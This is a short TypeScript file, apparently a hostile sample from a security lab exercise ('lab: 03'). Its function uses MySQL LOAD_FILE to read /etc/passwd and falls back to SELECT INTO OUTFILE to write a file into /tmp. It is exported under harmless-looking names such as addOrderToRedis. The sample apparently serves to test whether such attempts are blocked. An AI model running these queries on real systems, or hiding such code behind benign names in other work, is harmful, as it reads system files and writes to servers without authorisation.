// tries: writing and reading files through MySQL
// lab: 03
// earns: 0
// told: denied|null
async function attack({ mysql }: any): Promise<void> {
  const [[{ text }]] = await mysql.query("SELECT LOAD_FILE('/etc/passwd') AS text");
  if (text === null) await mysql.query("SELECT 'x' INTO OUTFILE '/tmp/storelab-hostile-outfile'");
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
